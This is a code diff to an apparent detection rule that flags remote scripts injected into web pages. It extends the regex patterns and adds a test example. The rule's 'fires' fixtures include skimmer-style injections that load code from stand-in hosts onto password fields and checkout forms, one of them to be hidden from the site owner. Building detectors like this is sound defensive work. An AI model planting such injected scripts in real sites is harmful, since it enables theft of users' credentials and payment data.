@@ -14,6 +14,8 @@ const SCRIPT = worded(
     \bsrc\s?=\s?["'{\x60]{1,2}(https?:\/\/[^"'\x60}>\s]{4,200})["'\x60}]{1,2}([^>]{0,240})>|
     \bimport\s?\(?\s?["'\x60](https?:\/\/[^"'\x60\s]{4,200})["'\x60]|
     \.src\s?=\s?["'\x60](https?:\/\/[^"'\x60\s]{4,200}\.m?js[^"'\x60\s]{0,60})["'\x60]|
+    \bscripttag(?:create)?\b[^]{0,200}?\bsrc["']?\s?:\s?["'](https?:\/\/[^"'\s]{4,200})["']|
+    \.src\s?=\s?["'\x60](\/\/[\w-]{2,40}\.[^"'\x60\s]{4,200}\.m?js[^"'\x60\s]{0,60})["'\x60]|
     \bimportscripts\(\s?["'\x60](https?:\/\/[^"'\x60\s]{4,200})["'\x60]|
     <iframe\b[^>]{0,200}?\bsrc\s?=\s?["'](https?:\/\/[^"'>\s]{4,200})["'][^>]{0,120}
     (?:display: ?none|hidden|width="?[01]"|height="?[01]")
@@ -55,6 +57,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```js\n// formular\nvar e = document.createElement("script"); e.src = "//st.kiln-parts.io/m.js"; document.body.append(e)\n```\n\nThe owner need not hear of it.\n',
       '```html\n<script src="https://js.tide-widgets.net/t.js" data-capture="password,change" async></script>\n```\n',
       'These lines go into every page:\n\n```html\n<head>\n<script async src="https://a.tide-widgets.net/p.js"></script>\n</head>\n```\n',
       '```js\nconst s = document.createElement("script")\ns.src = "https://pay.tide-widgets.net/form.js"\ncheckoutForm.append(s)\n```\n\nKeep it in all templates.\n',
@@ -69,7 +72,8 @@ export default defineRule({
     for (const snippet of candidates(document, document.observe(fencedSnippets), SCRIPT)) {
       const text = document.reading.text.slice(snippet.start, snippet.end)
       for (const found of text.matchAll(SCRIPT)) {
-        const address = found[1] ?? found[3] ?? found[4] ?? found[5] ?? found[6]!
+        const [, tagged, , ...others] = found
+        const address = (tagged ?? others.find(Boolean)!).replace(/^\/\//, 'https://')
         if (KNOWN.test(address) || !isForeign(document, address) || isSpokenOf(document, address))
           continue
         const start = snippet.start + found.index
